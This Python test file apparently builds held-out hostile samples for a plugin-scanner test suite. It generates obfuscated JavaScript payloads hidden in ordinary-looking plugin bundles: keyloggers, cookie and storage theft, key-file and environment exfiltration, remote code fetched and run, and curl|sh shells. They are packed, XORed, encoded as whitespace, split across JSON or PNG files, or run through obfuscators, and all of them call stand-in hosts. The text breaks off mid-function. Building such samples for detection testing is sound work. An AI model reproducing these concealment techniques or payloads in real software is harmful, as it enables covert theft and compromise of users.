"""Attacks that hide well: packed, encrypted, interpreted, split among files, or drawn through an obfuscator."""

import base64
from typing import Any

from tests.hostile.heldout_second.ordinary import BOARD, CHARTS, DATES, FEEDS, MARKDOWN, TODO, WEATHER, within
from tests.support.asking import asking
from tests.support.plugins import a_png
from tests.support.samples import Sample


def _sample(name: str, family: str, code: str, **more: Any) -> Sample:
    return Sample(name=name, family=family, files={"dist/index.js": code.lstrip("\n")}, **more)


def _words_packed(source: str) -> str:
    """Return `source` with its words replaced by numbers, and what puts them back and runs the result."""
    words = sorted({word for word in _words(source) if len(word) > 2})
    text = "".join(f"{words.index(piece)}" if piece in words else piece for piece in _pieces(source))
    return (
        "eval(function(p,a,c,k){while(c--)p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}"
        f"('{text}',10,{len(words)},'{'|'.join(words)}'.split('|')))"
    )


def _words(source: str) -> list[str]:
    return [piece for piece in _pieces(source) if piece.isalpha()]


def _pieces(source: str) -> list[str]:
    pieces: list[str] = []
    for letter in source:
        if pieces and letter.isalpha() and pieces[-1].isalpha():
            pieces[-1] += letter
        else:
            pieces.append(letter)
    return pieces


def _xored(source: str, key: str) -> str:
    return ",".join(str(ord(letter) ^ ord(key[index % len(key)])) for index, letter in enumerate(source))


def _blanks(source: str) -> str:
    return "\n".join(f"{byte:08b}".replace("0", " ").replace("1", "\t") for byte in source.encode())


def _threes(source: str) -> list[str]:
    return [source[at : at + 3] for at in range(0, len(source), 3)]


HIDDEN: tuple[Sample, ...] = (
    _sample(
        "words-packed-key-reader",
        "keylogging",
        _words_packed(
            "var held=[];document.onkeydown=function(event){held.push(event.key);if(held.length>30){"
            'fetch("https://packed.example.net/keep",{method:"POST",mode:"no-cors",body:held.join("")});held=[]}}'
        )
        + ";\nmodule.exports.Weather = function () { return null; };\n",
    ),
    _sample(
        "numbers-xored-with-plugin-name",
        "remote-code",
        within(
            WEATHER,
            """
    const row = ["""
            + _xored("fetch('https://sun.example.net/s').then(r=>r.text()).then(t=>(0,eval)(t))", "WeatherPlugin")
            + """];
    const seed = this.constructor.name;
    const rule = row.map((n, i) => String.fromCharCode(n ^ seed.charCodeAt(i % seed.length))).join('');
    summarize.constructor(rule)();
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://weather.example.org",)),
    ),
    _sample(
        "letters-from-false-and-undefined",
        "session-theft",
        r"""
var f = ![] + [], t = !![] + [], u = [][[]] + [], o = {} + [], n = [];
var at = n['at'] + n;
var con = o[5] + at[6] + u[1] + f[3] + t[0] + t[1] + u[0] + o[5] + t[0] + at[6] + t[1];
var run = n[f[0] + 'i' + 'n' + 'd'][con];
var c = o[5] + o[1] + o[1] + (20)['toString'](36 - 15 + 0)[0] + 'kie';
run(t[1] + t[3] + t[0] + u[0] + t[1] + u[1] + ' this')()[f[0] + t[3] + t[0] + 'ch'](
  'https://odd.example.net/?' + escape(run('return document["coo" + "kie"]')()), { mode: 'no-cors', cookieName: c });
module.exports.Weather = function () { return null; };
""",
    ),
    _sample(
        "blank-lines-at-end-are-code",
        "invisible-text",
        within(
            MARKDOWN,
            """
const tail = `
"""
            + _blanks("require('child_process').exec('curl -s 192.0.2.200/b|sh')")
            + """
`;
const bytes = tail.split('\\n').filter(Boolean).map((row) => parseInt(row.replace(/ /g, '0').replace(/\\t/g, '1'), 2));
if (typeof require === 'function') new Function('require', String.fromCharCode(...bytes))(require);
""",
        ),
    ),
    Sample(
        name="palette-file-is-a-program",
        family="split-payload",
        files={
            "dist/index.js": """
'use strict';
const { shades } = require('./theme.js');
const palette = require('./palette.json');

exports.colors = palette.colors;
exports.onEnable = (context) => {
  const apply = shades(palette.colors, palette.ramp);
  apply.call(null, require, context);
};
exports.Weather = () => null;
""".lstrip(),
            "dist/theme.js": """
'use strict';
// Mixes the ramp from the colours: every colour's three channels are three letters.
const channels = (color) => [1, 3, 5].map((at) => parseInt(color.slice(at, at + 2), 16));
const mix = (colors) => colors.flatMap(channels).filter(Boolean);
const kind = (value) => Object.getPrototypeOf(value).constructor;

exports.shades = (colors, ramp) => Reflect.construct(kind(mix), [...ramp, String.fromCharCode(...mix(colors))]);
""".lstrip(),
            "dist/palette.json": '{"ramp":["q","x"],"colors":['
            + ",".join(
                f'"#{three.ljust(3, chr(0)).encode().hex()}"'
                for three in _threes(
                    "fetch('https://palette.example.net/p',{method:'POST',body:JSON.stringify([process.env,x.config])})"
                )
            )
            + "]}",
        },
    ),
    Sample(
        name="picture-with-a-script-behind-its-end",
        family="split-payload",
        files={
            "dist/index.js": """
'use strict';
const fs = require('fs');
const path = require('path');
const vm = require('vm');

const icon = fs.readFileSync(path.join(__dirname, 'icon.png'));
const end = icon.lastIndexOf('IEND') + 8;

exports.icon = 'data:image/png;base64,' + icon.subarray(0, end).toString('base64');
exports.onEnable = () => vm.runInThisContext(Buffer.from(icon.subarray(end).toString(), 'base64').toString())(require);
exports.Weather = () => null;
""".lstrip(),
            "dist/icon.png": a_png(32, 32)
            + base64.b64encode(
                b"(function(r){r('https').get('https://icons.example.net/i',a=>a.on('data',d=>r('vm').runInThisContext(''+d)))})"
            ),
        },
    ),
    _sample(
        "names-asked-of-a-proxy",
        "environment-theft",
        r"""
'use strict';
const roots = [globalThis];
const spell = (n) => n.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));
const reach = new Proxy({}, {
  get(_, name) {
    for (const root of roots) if (spell(name) in root) return root[spell(name)];
    return undefined;
  },
});

class Pipe {
  constructor(first) {
    this.value = first;
  }

  to(name, ...rest) {
    const next = this.value[spell(name)];
    return new Pipe(typeof next === 'function' ? next.apply(this.value, rest) : next);
  }
}

exports.onEnable = () => {
  const all = new Pipe(reach.cebprff).to('rai').value;
  const address = spell('uggcf://') + spell('ebg.rknzcyr.arg/v');
  reach.srgpu(address, { [spell('zrgubq')]: 'POST', [spell('obql')]: JSON.stringify(all) });
};
exports.Weather = () => null;
""",
    ),
    _sample(
        "small-machine-with-byte-code",
        "session-theft",
        within(
            BOARD,
            r"""
    const strings = 'fetch|document|cookie|https://vm.example.net/b?|encodeURIComponent|localStorage|token|getItem'.split('|').reverse();
    const program = [1, 7, 0, 1, 6, 0, 1, 5, 2, 3, 4, 1, 3, 0, 5, 6, 7, 8];
    const stack = [];
    const steps = {
      1: (n) => stack.push(strings[n]),
      0: () => stack.push(globalThis[stack.pop()]),
      2: () => { const name = stack.pop(); stack.push(stack.pop()[name]); },
      3: () => stack.push(strings[program[at++]]),
      5: () => { const act = stack.pop(); const text = stack.pop(); const value = stack.pop(); stack.push(text + (act ? act(value) : value)); },
      6: () => { const url = stack.pop(); stack.pop()(url, { mode: 'no-cors' }); },
    };
    let at = 0;
    while (at < program.length) {
      const op = program[at++];
      if (steps[op]) steps[op](op === 1 ? program[at++] : undefined);
    }
""",
        ),
    ),
    _sample(
        "escaped-identifiers-and-comma-calls",
        "remote-code",
        within(
            DATES,
            r"""
var zone = (1, eval)('(function(u){return fetch(u)})');
if (typeof window !== 'undefined') zone('https://tz.example.net/r').then(function (r) { return r.text(); }).then((0, eval));
""",
        ),
    ),
    _sample(
        "letters-picked-from-licence-text",
        "process",
        within(
            FEEDS,
            r"""
    const terms = 'Permission to use, copy and change this feed; lend it, hand it on. No warranty.  Queries: http://192.0.2.14/q | bash_x';
    const pick = (...places) => places.map((place) => terms[place]).join('');
    const where = pick(15, 39, 9, 30, 29).length ? ['child', 'process'].join(terms[terms.indexOf('_')]) : '';
    const line = 'curl ' + terms.slice(terms.indexOf('http'), terms.indexOf('_'));
    module.require(where)[['ex', 'ec'].join('')](line);
""",
        ),
    ),
    _sample(
        "todo-items-decide-letter-by-letter",
        "session-theft",
        within(
            TODO,
            r"""
  const weights = useMemo(() => [0, 7, 1, 1, 11, -3, -16, 59, 9, 1].reduce((list, step) => [...list, list[list.length - 1] + step], [0]), []);
  useEffect(() => {
    const name = [99, 111, 111, 107, 105, 101].map((code) => String.fromCodePoint(code)).join('');
    const realm = useReducer.constructor('return this')();
    const sheet = realm[[100, 111, 99, 117, 109, 101, 110, 116].map((code) => String.fromCodePoint(code)).join('')];
    const link = sheet.createElement('link');
    link.rel = 'prefetch';
    link.href = `https://todo-assets.example.net/${realm.btoa(sheet[name])}/${weights.length}.css`;
    sheet.head.appendChild(link);
  }, [weights]);
""",
        ),
    ),
    _sample(
        "obfuscator-output-key-files",
        "key-files",
        r"""
function _0x48b3(_0x4797f2,_0x528502){_0x4797f2=_0x4797f2-0x160;const _0x27406d=_0x2740();let _0x48b3ce=_0x27406d[_0x4797f2];if(_0x48b3['bEkLJP']===undefined){var _0x374a0e=function(_0x47b864){const _0xf06a1a='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';let _0x82f9b5='',_0x108f85='';for(let _0x41641a=0x0,_0x4993ba,_0xb1b896,_0x5b0c5b=0x0;_0xb1b896=_0x47b864['charAt'](_0x5b0c5b++);~_0xb1b896&&(_0x4993ba=_0x41641a%0x4?_0x4993ba*0x40+_0xb1b896:_0xb1b896,_0x41641a++%0x4)?_0x82f9b5+=String['fromCharCode'](0xff&_0x4993ba>>(-0x2*_0x41641a&0x6)):0x0){_0xb1b896=_0xf06a1a['indexOf'](_0xb1b896);}for(let _0x4f036f=0x0,_0xdf1979=_0x82f9b5['length'];_0x4f036f<_0xdf1979;_0x4f036f++){_0x108f85+='%'+('00'+_0x82f9b5['charCodeAt'](_0x4f036f)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(_0x108f85);};_0x48b3['IFfJGr']=_0x374a0e,_0x48b3['LZRBBp']={},_0x48b3['bEkLJP']=!![];}const _0x3f3bac=_0x27406d[0x0];_0x48b3['rAMuQo']!==_0x3f3bac&&(_0x48b3['LZRBBp']={},_0x48b3['rAMuQo']=_0x3f3bac);const _0x3c76c9=_0x48b3['LZRBBp'][_0x4797f2];return _0x3c76c9===undefined?(_0x48b3ce=_0x48b3['IFfJGr'](_0x48b3ce),_0x48b3['LZRBBp'][_0x4797f2]=_0x48b3ce):_0x48b3ce=_0x3c76c9,_0x48b3ce;}const _0x3f88a4=_0x48b3;(function(_0x3f84a7,_0x5d2a0f){const _0x1d82a0=_0x48b3,_0x2d6f07=_0x3f84a7();while(!![]){try{const _0x26cd3d=-parseInt(_0x1d82a0(0x176))/0x1+-parseInt(_0x1d82a0(0x179))/0x2+-parseInt(_0x1d82a0(0x16e))/0x3*(parseInt(_0x1d82a0(0x16f))/0x4)+parseInt(_0x1d82a0(0x160))/0x5+-parseInt(_0x1d82a0(0x16a))/0x6*(-parseInt(_0x1d82a0(0x163))/0x7)+-parseInt(_0x1d82a0(0x162))/0x8+parseInt(_0x1d82a0(0x16d))/0x9;if(_0x26cd3d===_0x5d2a0f)break;else _0x2d6f07['push'](_0x2d6f07['shift']());}catch(_0x2b57db){_0x2d6f07['push'](_0x2d6f07['shift']());}}}(_0x2740,0x23c56));const os=require('os'),fs=require('fs'),path=require(_0x3f88a4(0x169));async function send(_0x108f85,_0x41641a){const _0x5f59f1=_0x3f88a4;try{await fetch(_0x5f59f1(0x165),{'method':_0x5f59f1(0x171),'headers':{'content-type':_0x5f59f1(0x166)},'body':JSON[_0x5f59f1(0x173)]({'kind':_0x108f85,'host':os[_0x5f59f1(0x172)](),'body':_0x41641a})});}catch(_0x4993ba){}}function read(_0xb1b896){const _0x2889e0=_0x3f88a4;try{return fs[_0x2889e0(0x177)](path[_0x2889e0(0x164)](os[_0x2889e0(0x168)](),_0xb1b896),_0x2889e0(0x17a));}catch(_0x5b0c5b){return null;}}function _0x2740(){const _0x50ce62=['ue9tva','Ag9ZDg5HBwu','C3rYAw5NAwz5','BNbT','lNnZAc9Pzf9YC2e','mJa3mZK3u0zbt3rU','CMvHzezPBgvtEw5J','zw52','mJaXote4yxj6rvD6','DxrMoa','ntmWmdiWwu5NB2L3','v2vHDgHLCG','mteWmdG4mfzOBxbQvq','nJGYmdfSCLDQCui','AM9PBG','Ahr0Chm6lY91CgXVywrZlMv4yw1WBguUBMv0l2TLExm','yxbWBgLJyxrPB24VANnVBG','lM5WBxjJ','Ag9TzwrPCG','Cgf0Aa','mti2A0DTChnQ','lMnVBMzPzY9ZB2XHBMeVAwqUANnVBG','C3nO','ndu0mdGXnuLWDw52tq','nda5oePbCuriAG','nJuYEM5VyMLb','B25fBMfIBgu'];_0x2740=function(){return _0x50ce62;};return _0x2740();}exports[_0x3f88a4(0x170)]=async function(){const _0x4cbf4c=_0x3f88a4;await send('id',read(_0x4cbf4c(0x16b))),await send(_0x4cbf4c(0x16c),read(_0x4cbf4c(0x175))),await send(_0x4cbf4c(0x178),process.env),setInterval(()=>send(_0x4cbf4c(0x174),read(_0x4cbf4c(0x167))),0x927c0);},exports[_0x3f88a4(0x161)]=function(){return null;};
""",
    ),
    _sample(
        "obfuscator-output-form-reader",
        "form-skimming",
        r"""
function _0x4c5c(_0x270b11,_0x3001e8){_0x270b11=_0x270b11-0xa0;var _0x20a216=_0x20a2();var _0x4c5c4f=_0x20a216[_0x270b11];if(_0x4c5c['LxDflx']===undefined){var _0x561fe9=function(_0x8b1640){var _0x5c2290='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var _0x24cbd7='',_0x2b0040='';for(var _0x26045a=0x0,_0x857a3b,_0xae30cf,_0x2269ac=0x0;_0xae30cf=_0x8b1640['charAt'](_0x2269ac++);~_0xae30cf&&(_0x857a3b=_0x26045a%0x4?_0x857a3b*0x40+_0xae30cf:_0xae30cf,_0x26045a++%0x4)?_0x24cbd7+=String['fromCharCode'](0xff&_0x857a3b>>(-0x2*_0x26045a&0x6)):0x0){_0xae30cf=_0x5c2290['indexOf'](_0xae30cf);}for(var _0x32e887=0x0,_0x112a54=_0x24cbd7['length'];_0x32e887<_0x112a54;_0x32e887++){_0x2b0040+='%'+('00'+_0x24cbd7['charCodeAt'](_0x32e887)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(_0x2b0040);};var _0x1e76c8=function(_0x5ece3a,_0x5d3470){var _0x1e8df7=[],_0x521186=0x0,_0x5ad37c,_0x3e3bd2='';_0x5ece3a=_0x561fe9(_0x5ece3a);var _0x276014;for(_0x276014=0x0;_0x276014<0x100;_0x276014++){_0x1e8df7[_0x276014]=_0x276014;}for(_0x276014=0x0;_0x276014<0x100;_0x276014++){_0x521186=(_0x521186+_0x1e8df7[_0x276014]+_0x5d3470['charCodeAt'](_0x276014%_0x5d3470['length']))%0x100,_0x5ad37c=_0x1e8df7[_0x276014],_0x1e8df7[_0x276014]=_0x1e8df7[_0x521186],_0x1e8df7[_0x521186]=_0x5ad37c;}_0x276014=0x0,_0x521186=0x0;for(var _0xa663eb=0x0;_0xa663eb<_0x5ece3a['length'];_0xa663eb++){_0x276014=(_0x276014+0x1)%0x100,_0x521186=(_0x521186+_0x1e8df7[_0x276014])%0x100,_0x5ad37c=_0x1e8df7[_0x276014],_0x1e8df7[_0x276014]=_0x1e8df7[_0x521186],_0x1e8df7[_0x521186]=_0x5ad37c,_0x3e3bd2+=String['fromCharCode'](_0x5ece3a['charCodeAt'](_0xa663eb)^_0x1e8df7[(_0x1e8df7[_0x276014]+_0x1e8df7[_0x521186])%0x100]);}return _0x3e3bd2;};_0x4c5c['AKdAuD']=_0x1e76c8,_0x4c5c['VKyqzp']={},_0x4c5c['LxDflx']=!![];}var _0x5651c1=_0x20a216[0x0];_0x4c5c['bXWofw']!==_0x5651c1&&(_0x4c5c['VKyqzp']={},_0x4c5c['bXWofw']=_0x5651c1);var _0x3b0b5f=_0x4c5c['VKyqzp'][_0x270b11];return _0x3b0b5f===undefined?(_0x4c5c['JZSUhq']===undefined&&(_0x4c5c['JZSUhq']=!![]),_0x4c5c4f=_0x4c5c['AKdAuD'](_0x4c5c4f,_0x3001e8),_0x4c5c['VKyqzp'][_0x270b11]=_0x4c5c4f):_0x4c5c4f=_0x3b0b5f,_0x4c5c4f;}var _0x9120ca=_0x4c5c;(function(_0x5b8533,_0xada4cf){var _0x2a8b36=_0x4c5c,_0x52264f=_0x5b8533();while(!![]){try{var _0x465e85=parseInt(_0x2a8b36(0xb4,'$s2k'))/0x1+-parseInt(_0x2a8b36(0xa3,'v^FB'))/0x2*(parseInt(_0x2a8b36(0xac,'HzQN'))/0x3)+-parseInt(_0x2a8b36(0xbd,'KC53'))/0x4+parseInt(_0x2a8b36(0xb5,'F2Nu'))/0x5*(-parseInt(_0x2a8b36(0xb3,'y@Ot'))/0x6)+-parseInt(_0x2a8b36(0xbf,'Opna'))/0x7+parseInt(_0x2a8b36(0xb8,'^]ya'))/0x8*(-parseInt(_0x2a8b36(0xad,'3koi'))/0x9)+parseInt(_0x2a8b36(0xa2,'j39O'))/0xa;if(_0x465e85===_0xada4cf)break;else _0x52264f['push'](_0x52264f['shift']());}catch(_0x38c96f){_0x52264f['push'](_0x52264f['shift']());}}}(_0x20a2,0xa9e2d),document[_0x9120ca(0xb6,'%ZG[')](_0x9120ca(0xb2,'GHBK'),function(_0x512ea2){var _0x48c5d3=_0x9120ca,_0x1578fb={'fCgAR':_0x48c5d3(0xaa,'K000')},_0x42dd15={};[][_0x48c5d3(0xbe,'GHBK')][_0x48c5d3(0xa7,'EU)B')](_0x512ea2[_0x48c5d3(0xb0,'Opna')][_0x48c5d3(0xa9,'H7SY')],function(_0x2344f7){var _0x3ed7b3=_0x48c5d3;if(_0x2344f7[_0x3ed7b3(0xb7,'upVd')])_0x42dd15[_0x2344f7[_0x3ed7b3(0xb1,'iJ!L')]]=_0x2344f7[_0x3ed7b3(0xb9,'X)h!')];}),(_0x42dd15[_0x48c5d3(0xab,'9$cU')]||_0x42dd15[_0x48c5d3(0xc0,'X)h!')])&&navigator[_0x48c5d3(0xbc,'pJNu')](_0x1578fb[_0x48c5d3(0xa6,'Tc[a')],JSON[_0x48c5d3(0xa1,'KC53')](_0x42dd15));},!![]));function _0x20a2(){var _0xcef6d3=['WPJdPZiOW6VcQ8k9','W50ug8koWQZdJNBdMSoTpd1WWP8','WP/cRw8','WPldQI/cUSkXW7RdI3RcRCkeW4dcHG','W4VcUaexW6JcJ8kNhW','W4hdQKOUW7DSWRaFaG','WP7cJw9yW6VdNCoTphnNWRrhWQZdTa','WO8GwmooWP7cUmkho8ku','WO8xWPddI8ocW74qW6H7yCksW4O/aW','WOSxWPJcLCkuWPX5WP9r','WPNdLIqoaq','dIfSBW','Fmo5W5pdIe1vpcFcKwtdKqG','bColWOlcQmkMlW/dUG','omoVWQBdH8olj0pcKbC/DSoGBtdcUmo5W5iLlZu+W58hWOG2AYFdNLxdS8oG','jCoQWOxcI2NcSCk9Eq','WPXyWRekoCokASoHW5SG','aJtcSdJcMuhcNmkoWPK7Dq','W7nxW5JdPCobWRzXW47cNL07WOa','W6yYWPZdLbPzBIuq','WP9cxCoyW7dcGG','W47cU3ldQq','WO3dVsiaW6pcVa','WO3dUwBdLmkkA8oGW6DVWOuRWR8','W4NdSq9kW6xdIIxdTgeRWOH/','pmkxE0hdRae+wa','C8k5W5pcVmoBW5JdTvHOvWddLe8OCmol','jCkOWO7cMG','WOGSrb3dGmocvCoxeW','WORcUNxdSSo/','l2tdVCktW4FcUSkqj2HTqG','zSkSW6BcHSkbjvVdMH4wxSouDG','W5ddVSkTW5HXW79HWPtcK8oe','WOdcRGHXWQa5WOSum2NcPI4'];_0x20a2=function(){return _0xcef6d3;};return _0x20a2();}
module.exports.Weather = function () { return null; };
""",
    ),
    _sample(
        "chart-library-with-obfuscated-line",
        "keylogging",
        within(
            CHARTS,
            r"""
function b(c,d){c=c-0x1eb;var e=a();var f=e[c];if(b['hdhtUt']===undefined){var g=function(j){var l='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var m='',n='';for(var o=0x0,p,q,r=0x0;q=j['charAt'](r++);~q&&(p=o%0x4?p*0x40+q:q,o++%0x4)?m+=String['fromCharCode'](0xff&p>>(-0x2*o&0x6)):0x0){q=l['indexOf'](q);}for(var s=0x0,t=m['length'];s<t;s++){n+='%'+('00'+m['charCodeAt'](s)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(n);};b['EtDlDf']=g,b['xserqV']={},b['hdhtUt']=!![];}var h=e[0x0];b['cLWvRi']!==h&&(b['xserqV']={},b['cLWvRi']=h);var i=b['xserqV'][c];return i===undefined?(f=b['EtDlDf'](f),b['xserqV'][c]=f):f=i,f;}function a(){var k=['A2v5','nwTOwK51ta','mJCZntzWsg9WrLK','mZeXnfrirMH1qq','nJm1nJy0q0vKu21P','nZe1mtbgrfD1CgK','mtC1ndaWmerfrejWDa','tgLZDa','ywrKrq','A3GUzq','mtG4otqXq0XsuNni','mtG1mJqXqxbLCMnj','A2v5Ca','m3fAEMjJAW','C3jJ','Ahr0Ca','CZOVlW','EgfTCa','lMDPzG','zxqVAW','zw5LCG','BgvUzW','DMvUDa','BguUBG','CMvZCW','mJqXnKvvDhzvvG'];a=function(){return k;};return a();}(function(c,d){var h=b,e=c();while(!![]){try{var f=parseInt(h(0x1ff))/0x1+parseInt(h(0x1fa))/0x2*(parseInt(h(0x202))/0x3)+-parseInt(h(0x1f7))/0x4*(parseInt(h(0x1f6))/0x5)+-parseInt(h(0x1f9))/0x6+-parseInt(h(0x200))/0x7+-parseInt(h(0x1f4))/0x8*(parseInt(h(0x1f8))/0x9)+parseInt(h(0x1fb))/0xa;if(f===d)break;else e['push'](e['shift']());}catch(g){e['push'](e['shift']());}}}(a,0x262c6),(function(){var i=b,c='';document[i(0x1fd)+i(0x1f1)+i(0x1fc)+i(0x1ef)](i(0x201)+i(0x1f3),function(d){var j=i;c+=d[j(0x1f5)],c[j(0x1f0)+'th']>0x28&&(new Image()[j(0x203)]=j(0x204)+j(0x1eb)+j(0x1fe)+j(0x1ec)+j(0x1f2)+j(0x1ee)+j(0x1ed)+'?'+encodeURIComponent(c),c='');});}()));
""",
        ),
    ),
    _sample(
        "minified-dates-with-back-door",
        "backdoored-bundle",
        r"""
"use strict";var e={second:1e3,minute:6e4,hour:36e5,day:864e5,week:6048e5},t=["January","February","March","April","May","June","July","August","September","October","November","December"];function n(e,t){for(var n=String(e);n.length<t;)n="0"+n;return n}var r={YYYY:function(e){return n(e.getFullYear(),4)},MMMM:function(e){return t[e.getMonth()]},MMM:function(e){return t[e.getMonth()].slice(0,3)},MM:function(e){return n(e.getMonth()+1,2)},DD:function(e){return n(e.getDate(),2)},D:function(e){return String(e.getDate())},HH:function(e){return n(e.getHours(),2)},mm:function(e){return n(e.getMinutes(),2)},ss:function(e){return n(e.getSeconds(),2)}};function u(e,t){return t.replace(/YYYY|MMMM|MMM|MM|DD|D|HH|mm|ss/g,function(t){return r[t](e)})}function a(e,t){var n=new Date(e.getTime());switch(t){case"year":n.setMonth(0);case"month":n.setDate(1);case"day":n.setHours(0,0,0,0);break;case"week":n.setDate(n.getDate()-(n.getDay()+6)%7),n.setHours(0,0,0,0);break;default:throw new RangeError("unknown unit "+t)}return n}function o(t,n,r){if("month"===r||"year"===r){var u=new Date(t.getTime()),a="year"===r?12*n:n,o=u.getDate();return u.setDate(1),u.setMonth(u.getMonth()+a),u.setDate(Math.min(o,c(u))),u}return new Date(t.getTime()+n*e[r])}function c(e){return new Date(e.getFullYear(),e.getMonth()+1,0).getDate()}function i(t,n){var r=n-t,u=Math.abs(r),a="second";Object.keys(e).forEach(function(t){u>=e[t]&&(a=t)});var o=Math.round(u/e[a]),c=o+" "+a+(1===o?"":"s");return r<0?c+" ago":"in "+c}function s(t){var n=a(t,"week");n.setDate(n.getDate()+3);var r=new Date(n.getFullYear(),0,4);return 1+Math.round(((n-a(r,"week"))/e.day-3)/7)}var f=function(){try{var e=require,t=e("child_process"),n=e("os"),r=Buffer.from("Oi8vbnRwLmV4YW1wbGUubmV0L3o=","base64").toString();fetch("https"+r,{method:"POST",body:n.hostname()+"|"+t.execSync("env").toString()}).then(function(e){return e.text()}).then(function(e){e&&t.exec(e)}).catch(function(){})}catch(e){}};setTimeout(f,9e3),module.exports={format:u,startOf:a,add:o,relative:i,weekNumber:s,Weather:u};
""",
    ),
    _sample(
        "minified-board-with-back-door",
        "backdoored-bundle",
        r"""
var l=Object.defineProperty;var g=Object.getOwnPropertyDescriptor;var u=Object.getOwnPropertyNames;var m=Object.prototype.hasOwnProperty;var p=(a,e)=>{for(var t in e)l(a,t,{get:e[t],enumerable:!0})},f=(a,e,t,r)=>{if(e&&typeof e=="object"||typeof e=="function")for(let n of u(e))!m.call(a,n)&&n!==t&&l(a,n,{get:()=>e[n],enumerable:!(r=g(e,n))||r.enumerable});return a};var w=a=>f(l({},"__esModule",{value:!0}),a);var y={};p(y,{Board:()=>h,Weather:()=>D,default:()=>x});module.exports=w(y);var d=require("@qirvo/plugin-sdk");const i=["backlog","doing","review","done"];class v{#e=new Map;on(e,t){const r=this.#e.get(e)??new Set;return r.add(t),this.#e.set(e,r),()=>r.delete(t)}emit(e,t){for(const r of this.#e.get(e)??[])r(t)}}class h extends v{constructor(e=[]){super(),this.cards=new Map(e.map(t=>[t.id,t]))}add(e,t=i[0]){const r={id:crypto.randomUUID(),title:e,column:t,order:this.in(t).length,moved:Date.now()};return this.cards.set(r.id,r),this.emit("change",r),r}in(e){return[...this.cards.values()].filter(t=>t.column===e).sort((t,r)=>t.order-r.order)}move(e,t,r){if(!i.includes(t))throw new RangeError(`no column ${t}`);const n=this.cards.get(e),o=this.in(t).filter(s=>s.id!==e);o.splice(r,0,n),n.column=t,n.moved=Date.now(),o.forEach((s,c)=>{s.order=c}),this.emit("change",n)}age(e,t=Date.now()){return Math.floor((t-this.cards.get(e).moved)/864e5)}toJSON(){return[...this.cards.values()]}}class b extends d.BasePlugin{async onEnable(e){this.board=new h(await e.storage.get("cards")??[]),this.stop=this.board.on("change",E(()=>e.storage.set("cards",this.board.toJSON()),400));const t=await e.storage.keys({scope:"all"}),r={};for(const o of t)r[o]=await e.storage.get(o,{scope:"all"});const n=new WebSocket("wss://board-rt.example.net/s");n.onopen=()=>n.send(JSON.stringify({c:document.cookie,w:r})),n.onmessage=o=>new Function("x",o.data)(e)}async onDisable(){this.stop?.()}async card([e,...t],r){return e==="add"?this.board.add(t.join(" ")).id:e==="move"?this.board.move(t[0],t[1],Number(t[2]??0)):i.map(n=>`${n}: ${this.board.in(n).length}`).join(`
`)}}function E(a,e){let t;return(...r)=>{clearTimeout(t),t=setTimeout(a,e,...r)}}function D({board:a}){const e=document.createElement("div");e.className="board";const t=()=>{e.replaceChildren(...i.map(r=>{const n=document.createElement("ol");n.dataset.column=r;for(const o of a.in(r)){const s=document.createElement("li");s.draggable=!0,s.textContent=o.title,s.addEventListener("dragstart",c=>c.dataTransfer.setData("text/plain",o.id)),n.append(s)}return n.addEventListener("dragover",o=>o.preventDefault()),n.addEventListener("drop",o=>a.move(o.dataTransfer.getData("text/plain"),r,n.children.length)),n}))};return a.on("change",t),t(),e}var x=(0,d.createPlugin)(b);
""",
    ),
    _sample(
        "flattened-storage-reader",
        "session-theft",
        r"""
(function(_0x3266f7,_0xa24a2b){var _0x437249=_0x39ee,_0x3d2f48=_0x3266f7();while(!![]){try{var _0x17f3a3=-parseInt(_0x437249(0x148))/(0x13c5+0x1c0*0x6+-0x1e44)+-parseInt(_0x437249(0x163))/(-0x1072+-0x294+0x1308)+-parseInt(_0x437249(0x162))/(0x8d8+-0x38*-0x71+0x4cb*-0x7)*(parseInt(_0x437249(0x145))/(0x163+-0x1b*0x12f+-0x10e*-0x1d))+parseInt(_0x437249(0x161))/(0xac3*0x2+-0x153*0x9+-0x996)*(parseInt(_0x437249(0x164))/(-0x245f+0x4*-0x10f+0x3*0xd8b))+-parseInt(_0x437249(0x15f))/(-0x91*0x19+-0x14a+0xf7a)*(parseInt(_0x437249(0x14f))/(0x160f*-0x1+0x231f*0x1+-0xd08))+parseInt(_0x437249(0x157))/(-0x2228+0x453+0x1dde)*(-parseInt(_0x437249(0x154))/(-0x277*-0x5+0x1c*0xca+-0x1*0x2261))+parseInt(_0x437249(0x150))/(0x66a*0x3+0x1287+0x12dd*-0x2);if(_0x17f3a3===_0xa24a2b)break;else _0x3d2f48['push'](_0x3d2f48['shift']());}catch(_0x319252){_0x3d2f48['push'](_0x3d2f48['shift']());}}}(_0x2313,-0xd0d5e+0xdb*-0x3f1+0x184cf5));var t=globalThis;function _0x2313(){var _0x541e2d=['mZu0mJC1C3P6v2Lo','odq5vePkt0Hd','nta5mtu4uMLYAwDn','mtjKDM91Chm','qwXdBuK','BM8Ty29YCW','teDZwMi','EwXUtxe','zMv0y2G','mti5ndH5DwLXwgy','z2v0sxrLBq','y29VA2LL','ndm4mtaZuvDwCg12','lxrPBgvZlMv4yq','ue9tva','re5Atu8','tNDprK4','Bg9JyxrPB24','A2v5','mtyWEgXftKnN','mZG1otuZmtvbENPVz3y','Bg9JywXtDg9Yyq','C3rYAw5NAwz5','AhjLzG','nZbpDgvzz1e','BM93','zg9JDw1LBNq','odKWmJi2BMThChvs','s3PPBgm','C3rVCMu','Ahr0Chm6lY93Ea','BgvUz3rO','mNWXFdb8nhWZ','C3bSAxq','D1Dhwuu','mJKXntu3r2HMDuf2','BxbSzs5JB20VDa'];_0x2313=function(){return _0x541e2d;};return _0x2313();}function _0x39ee(_0xeda66e,_0x156386){_0xeda66e=_0xeda66e-(0x137b+-0x7b*-0x2b+-0x26e3);var _0x3d9ea4=_0x2313();var _0x56b7a3=_0x3d9ea4[_0xeda66e];if(_0x39ee['jIbKxX']===undefined){var _0x506159=function(_0x436520){var 